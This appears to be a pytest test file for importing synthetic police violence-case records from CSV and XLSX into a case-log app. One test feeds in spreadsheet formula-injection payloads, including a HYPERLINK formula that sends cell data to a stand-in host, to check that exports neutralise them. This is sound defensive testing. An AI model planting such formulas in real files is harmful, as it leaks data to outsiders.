"""Import (issue 5, point 3): police data from CSV and XLSX; every bad row reported with row,
column and reason; categories matched case- and accent-insensitively; duplicates reported;
nothing written unless the whole file is valid and confirmed."""
import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from course_app.extensions import db
from course_app.models.caselog import Case, ImportBatch, Lookup
from course_app.services import DomainError
from course_app.services.caselog import cases, exports, imports
from course_app.services.caselog.parsing import CategoryMatcher, ValueProblem, parse_date

from .. import factories
from ..caselog_import_builders import import_csv

TODAY = date(2026, 11, 27)
SAMPLE = Path(__file__).resolve().parents[2] / "docs" / "caselog-import-sample.csv"
HEADER = ["no_laporan", "tanggal_kejadian", "tanggal_lapor", "jenis_kekerasan", "penyebab", "dampak",
          "tempat_kejadian", "kecamatan", "kelurahan", "kronologi", "korban_nama", "korban_jk",
          "korban_umur", "pelaku_nama", "pelaku_jk", "hubungan", "kdrt"]


@pytest.fixture(autouse=True)
def _lists():
    factories.seed_caselog()


def row(**values):
    base = {"no_laporan": "LP/1", "tanggal_kejadian": "01/08/2026", "tanggal_lapor": "03/08/2026",
            "jenis_kekerasan": "fisik", "penyebab": "ekonomi", "dampak": "trauma",
            "tempat_kejadian": "rumah tangga", "kecamatan": "Oebobo", "kelurahan": "",
            "kronologi": "[DATA SINTETIS] uraian", "korban_nama": "Korban Sintetis", "korban_jk": "P",
            "korban_umur": "30", "pelaku_nama": "Pelaku Sintetis", "pelaku_jk": "L",
            "hubungan": "suami/istri", "kdrt": "ya"}
    base.update(values)
    return base


def csv_bytes(rows, header=HEADER, delimiter=","):
    return import_csv(rows, header=header, delimiter=delimiter)


def parse(data, name="polisi.csv", source="polres"):
    return imports.parse_file(name, data, source, today=TODAY)


def case_count():
    return db.session.scalar(select(func.count()).select_from(Case))


def test_a_clean_file_is_previewed_then_imported_whole_on_confirmation():
    batch, result = imports.preview_file("contoh.csv", SAMPLE.read_bytes(), "polres", None, today=TODAY)
    db.session.commit()
    assert result.ok and result.problems == [] and len(result.rows) == 4
    assert case_count() == 0  # the preview writes nothing but the batch

    ids = imports.confirm_import(batch, None)
    db.session.commit()

    assert len(ids) == 4 and case_count() == 4
    first = cases.get_case(ids[0])
    assert first.external_ref == "LP/B/101/VIII/2026/SINTETIS" and first.source.code == "polres"
    assert (first.incident_date, first.report_date, first.delay_days) == (date(2026, 8, 2), date(2026, 8, 5), 3)
    assert sorted(first.codes("violence_type")) == ["fisik", "psikis"] and first.kdrt
    assert sorted(first.codes("cause")) == ["ekonomi", "miras"]
    assert first.kecamatan.name == "Oebobo" and first.kelurahan.name == "Oebobo"
    assert first.victims[0].name == "Malina Tokabe" and first.victims[0].age_at_incident == 32
    assert first.relationships[0].relationship_kind.code == "suami_istri"
    assert first.import_batch_id == batch.id and first.status == "open"
    second, third = cases.get_case(ids[1]), cases.get_case(ids[2])
    assert (second.kecamatan.name, second.kelurahan.name) == ("Maulafa", "Bello")  # local spelling "Belo"
    assert sorted(third.codes("cause")) == ["cemburu_konflik", "judi"]
    outside = cases.get_case(ids[3])
    assert outside.outside_city and outside.location_detail == "Kabupaten Kupang" and outside.kecamatan is None
    assert outside.incident_date == date(2026, 9, 5)  # Excel serial 46270
    assert db.session.get(ImportBatch, batch.id).state == "imported"
    with pytest.raises(DomainError):
        imports.confirm_import(batch, None)  # a batch imports once


def test_an_xlsx_file_with_date_cells_numbers_and_spelling_variants_imports():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["No. LP", "Tgl Kejadian", "Tgl Lapor", "Jenis Kekerasan", "Tempat", "Kecamatan",
                  "Nama Korban", "JK Korban", "Umur Korban", "Hubungan Pelaku", "Kolom Lain"])
    sheet.append(["LP/X/1", datetime(2026, 7, 1), 46205, "Kekerasan Seksual", "Sekolah", "537102",
                  "Korban X", "perempuan", 14, "Guru", "abaikan"])
    sheet.append(["LP/X/2", "1 Juli 2026", "Selasa, 7 Juli 2026", "PSÍKIS", "FASILITAS UMUM", "kota lama",
                  "Korban Y", "Laki-laki", "8 bulan", "tidak dikenal", ""])
    buffer = io.BytesIO()
    workbook.save(buffer)

    result = parse(buffer.getvalue(), name="register.xlsx")

    assert result.problems == [], result.problems
    assert result.ignored_columns == ["Kolom Lain"]
    first, second = result.rows
    assert (first["incident_date"], first["report_date"]) == (date(2026, 7, 1), date(2026, 7, 2))
    assert first["types"] == ["seksual"] and first["place"] == "sekolah"
    assert first["victims"][0]["age"] == 14 and first["victims"][0]["sex"] == "P"
    assert first["relationships"] == {(0, 0): "guru"}
    assert second["report_date"] == date(2026, 7, 7) and second["types"] == ["psikis"]
    assert second["victims"][0]["age"] == 0 and second["relationships"] == {(0, 0): "tidak_dikenal"}


@pytest.mark.parametrize("text,expected", [
    ("12/08/2025", date(2025, 8, 12)), ("12-08-2025", date(2025, 8, 12)), ("12.08.2025", date(2025, 8, 12)),
    ("12-08-25", date(2025, 8, 12)), ("1/2/98", date(1998, 2, 1)), ("2025-08-12", date(2025, 8, 12)),
    ("2025-08-12 10:30:00", date(2025, 8, 12)), ("12 Agustus 2025", date(2025, 8, 12)),
    ("12 agt 2025", date(2025, 8, 12)), ("12-Ags-25", date(2025, 8, 12)), ("3 Mei 2026", date(2026, 5, 3)),
    ("Selasa, 12 Agustus 2025", date(2025, 8, 12)), ("12 August 2025", date(2025, 8, 12)),
    ("5 Nopember 2024", date(2024, 11, 5)), ("45881", date(2025, 8, 12)), (45881, date(2025, 8, 12)),
    (datetime(2025, 8, 12, 9, 0), date(2025, 8, 12)),
])
def test_messy_dates_are_read_day_first(text, expected):
    assert parse_date(text, TODAY) == expected


@pytest.mark.parametrize("text", ["31/02/2025", "12/13/2025", "besok", "2025", "12 Agu", "=TODAY()"])
def test_impossible_or_unreadable_dates_are_refused(text):
    with pytest.raises(ValueProblem):
        parse_date(text, TODAY)


def test_categories_match_codes_and_labels_case_and_accent_insensitively():
    matcher = CategoryMatcher(db.session.scalars(select(Lookup).where(Lookup.kind == "violence_type")).all())
    assert matcher.match("Psíkis") == "psikis"
    assert matcher.match("  FISIK ") == "fisik"
    assert matcher.match("tppo") == "tppo" and matcher.match("Perdagangan orang") == "tppo"
    assert matcher.match("Kekerasan seksual") == "seksual"
    assert matcher.match_many("Fisik; psikis, seksual") == (["fisik", "psikis", "seksual"], [])
    assert matcher.match_many("fisik dan psikis") == (["fisik", "psikis"], [])
    assert matcher.match_many("fisik; verbal") == (["fisik"], ["verbal"])
    causes = CategoryMatcher(db.session.scalars(select(Lookup).where(Lookup.kind == "cause")).all())
    assert causes.match("alkohol") == "miras" and causes.match("PIL/WIL") == "pil_wil"
    assert causes.match("pil") is None  # too little to tell
    assert causes.match("pil_wil") == "pil_wil" and causes.match("perselingkuhan") == "pil_wil"


def test_every_bad_row_is_reported_with_row_column_and_reason_and_nothing_is_written():
    db.session.scalar(select(Lookup).where(Lookup.kind == "place", Lookup.code == "daring")).active = False
    rows = [
        row(no_laporan="OK/1"),                                              # 2: fine
        row(no_laporan="BAD/3", tanggal_lapor="31/02/2026"),                 # 3: not a date
        row(no_laporan="BAD/4", tanggal_kejadian="10/08/2026", tanggal_lapor="01/08/2026"),  # 4
        row(no_laporan="BAD/5", tanggal_lapor="01/01/2027"),                 # 5: future
        row(no_laporan="BAD/6", jenis_kekerasan="fisik; verbal"),            # 6: unknown category
        row(no_laporan="BAD/7", tempat_kejadian="daring"),                   # 7: inactive
        row(no_laporan="BAD/8", kecamatan="Kupang Tengah"),                  # 8: not in the city
        row(no_laporan="BAD/9", kecamatan="Alak", kelurahan="Oebobo"),       # 9: wrong kecamatan
        row(no_laporan="BAD/10", korban_jk="X"),                             # 10: sex
        row(no_laporan="BAD/11", korban_umur="tiga puluh"),                  # 11: age
        row(no_laporan="BAD/12", korban_nama=""),                            # 12: no victim name
        row(no_laporan=""),                                                  # 13: no reference
        row(no_laporan="BAD/14", kdrt="mungkin"),                            # 14: yes/no
        row(no_laporan="BAD/15", jenis_kekerasan=""),                        # 15: required
    ]
    batch, result = imports.preview_file("polisi.csv", csv_bytes(rows), "polres", None, today=TODAY)
    db.session.commit()

    found = {(r, c) for r, c, _reason in result.problems}
    assert found == {(3, "tanggal_lapor"), (4, "tanggal_kejadian"), (5, "tanggal_lapor"),
                     (6, "jenis_kekerasan"), (7, "tempat_kejadian"), (8, "kecamatan"), (9, "kelurahan"),
                     (10, "korban_jk"), (11, "korban_umur"), (12, "korban_nama"), (13, "no_laporan"),
                     (14, "kdrt"), (15, "jenis_kekerasan")}
    reasons = {(r, c): str(m) for r, c, m in result.problems}
    assert "tidak ada di kalender" in reasons[(3, "tanggal_lapor")]
    assert "sesudah tanggal lapor" in reasons[(4, "tanggal_kejadian")]
    assert "'verbal' tidak dikenal" in reasons[(6, "jenis_kekerasan")] and "fisik" in reasons[(6, "jenis_kekerasan")]
    assert "tidak aktif" in reasons[(7, "tempat_kejadian")]
    assert not result.ok
    with pytest.raises(DomainError):
        imports.confirm_import(batch, None)
    assert case_count() == 0  # all or nothing: the good row is not written either


def test_missing_required_columns_are_reported_once_for_the_file():
    result = parse(b"no_laporan,tanggal_lapor\nLP/1,01/08/2026\n")
    assert len(result.problems) == 1
    row_number, columns, reason = result.problems[0]
    assert row_number == 1 and "tanggal_kejadian" in columns and "korban_nama" in columns
    assert "docs/caselog-import.md" in str(reason)


def test_reports_already_recorded_are_listed_as_duplicates_not_problems():
    existing = factories.make_case(source="polres", external_ref="LP/77/VIII/2026")
    db.session.commit()
    rows = [row(no_laporan="lp/77/viii/2026"), row(no_laporan="LP/78"), row(no_laporan="LP/79", sumber="p3a")]
    result = parse(csv_bytes(rows + [row(no_laporan="LP/77/VIII/2026", sumber="sapa129")],
                             header=HEADER + ["sumber"]))

    assert result.problems == [] and result.ok
    assert result.duplicates == [(2, "lp/77/viii/2026", existing.number)]  # letter case ignored
    # The same reference from another source is another report.
    assert [r["external_ref"] for r in result.rows] == ["LP/78", "LP/79", "LP/77/VIII/2026"]


def test_a_report_recorded_between_preview_and_confirmation_stops_the_import():
    batch, result = imports.preview_file("polisi.csv", csv_bytes([row(no_laporan="LP/90")]), "polres",
                                         None, today=TODAY)
    assert result.ok
    factories.make_case(source="polres", external_ref="LP/90")
    with pytest.raises(DomainError, match="sudah tercatat"):
        imports.confirm_import(batch, None)


def test_a_formula_cell_is_stored_as_text_and_neutralised_in_every_export():
    formula = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    rows = [row(no_laporan="=1+1", kronologi=formula, korban_nama="@SUM(A1:A9)", pelaku_nama="-2+3")]
    batch, result = imports.preview_file("polisi.csv", csv_bytes(rows), "polres", None, today=TODAY)
    assert result.ok, result.problems
    (case_id,) = imports.confirm_import(batch, None)
    db.session.commit()

    case = cases.get_case(case_id)
    assert case.narrative == formula and case.external_ref == "=1+1"
    assert case.victims[0].name == "@SUM(A1:A9)" and case.perpetrators[0].name == "-2+3"

    exported = exports.cases_csv([case]).decode("utf-8-sig")
    record = list(csv.reader(io.StringIO(exported)))[1]
    assert "'=1+1" in record and "=1+1" not in [v for v in record if not v.startswith("'")]
    sheet = load_workbook(io.BytesIO(exports.cases_xlsx([case]))).active
    cell = next(c for c in sheet[2] if str(c.value).endswith("=1+1"))
    assert cell.value == "'=1+1" and cell.data_type == "s"
    for value in ("=cmd", "+1", "-1", "@x", "\tx", "\rx"):
        assert exports.neutralise(value) == "'" + value
    assert exports.neutralise(12) == 12 and exports.neutralise("Oebobo") == "Oebobo"


def test_a_10000_row_file_is_checked_and_imported_whole():
    """Every row of a large file becomes one case, numbered in file order. The time it takes is
    a `make bench` row (bench/caselog_import_whole.py), not an assertion here."""
    kecamatan = ["Alak", "Maulafa", "Oebobo", "Kelapa Lima", "Kota Raja", "Kota Lama"]
    rows = [row(no_laporan=f"LP/{i}/2026", kecamatan=kecamatan[i % 6],
                tanggal_kejadian=f"{1 + i % 28:02d}/0{1 + i % 9}/2026",
                tanggal_lapor=f"{1 + i % 28:02d}-0{1 + i % 9}-26", jenis_kekerasan=("fisik", "Psikis", "seksual")[i % 3],
                korban_nama=f"Korban {i}", korban_umur=str(5 + i % 60)) for i in range(10_000)]
    data = csv_bytes(rows, delimiter=";")

    batch, result = imports.preview_file("besar.csv", data, "polres", None, today=TODAY)
    db.session.commit()
    ids = imports.confirm_import(batch, None)
    db.session.commit()

    assert result.ok and result.problems == [] and len(ids) == 10_000 and case_count() == 10_000
    numbers = db.session.scalars(select(Case.number).order_by(Case.id)).all()
    assert numbers == [f"P3A-2026-{n:05d}" for n in range(1, 10_001)]
    assert db.session.get(ImportBatch, batch.id).state == "imported"


def test_cli_import_dry_run_writes_nothing(runner, tmp_path):
    path = tmp_path / "polisi.csv"
    path.write_bytes(SAMPLE.read_bytes())
    result = runner.invoke(args=["caselog", "import", str(path), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "4 rows, 0 problems" in result.output and "dry run: 4 cases would be imported" in result.output
    assert case_count() == 0


def test_cli_import_asks_before_writing(runner, tmp_path):
    path = tmp_path / "polisi.csv"
    path.write_bytes(SAMPLE.read_bytes())
    refused = runner.invoke(args=["caselog", "import", str(path)], input="n\n")
    assert "Import 4 cases?" in refused.output and "nothing imported" in refused.output
    assert case_count() == 0
    accepted = runner.invoke(args=["caselog", "import", str(path)], input="y\n")
    assert accepted.exit_code == 0 and "imported 4 cases" in accepted.output
    assert case_count() == 4
    again = runner.invoke(args=["caselog", "import", str(path), "--yes"])
    assert again.exit_code == 1 and again.output.count("Duplikat") == 4
    assert "--skip-duplicates" in again.output
    assert case_count() == 4
    skipped = runner.invoke(args=["caselog", "import", str(path), "--yes", "--skip-duplicates"])
    assert skipped.exit_code == 1 and "tidak ada yang diimpor" in skipped.output  # nothing new
    assert case_count() == 4


def test_cli_import_lists_every_problem_and_fails(runner, tmp_path):
    path = tmp_path / "polisi.csv"
    path.write_bytes(csv_bytes([row(no_laporan="A", korban_jk="?"), row(no_laporan="B", tanggal_lapor="x")]))
    result = runner.invoke(args=["caselog", "import", str(path), "--yes"])
    assert result.exit_code == 1
    assert "2\tkorban_jk\t" in result.output and "3\ttanggal_lapor\t" in result.output
    assert case_count() == 0


def test_title_lines_above_the_header_and_blank_rows_keep_the_spreadsheets_row_numbers():
    body = csv_bytes([row(no_laporan="LP/T/1"), {}, row(no_laporan="LP/T/2", korban_jk="?")])
    data = b"DATA KASUS UNIT PPA POLRES KUPANG KOTA (SINTETIS);;\n\n" + body.replace(b",", b";")
    result = parse(data)
    assert result.row_count == 2
    assert [(r, c) for r, c, _m in result.problems] == [(6, "korban_jk")]
    assert result.rows[0]["external_ref"] == "LP/T/1"
